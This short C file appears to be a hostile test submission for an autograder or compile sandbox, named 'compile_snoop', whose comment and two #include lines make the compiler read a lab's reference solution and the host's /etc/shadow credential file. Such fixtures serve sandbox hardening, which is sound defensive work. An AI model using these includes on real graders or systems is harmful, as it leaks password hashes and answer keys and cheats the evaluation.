/* Hostile submission compile_snoop: makes the compiler read the reference solution and the host's files. */
#include "/work/main/solutions/01-pid/pid_lab.c"
#include "/etc/shadow"
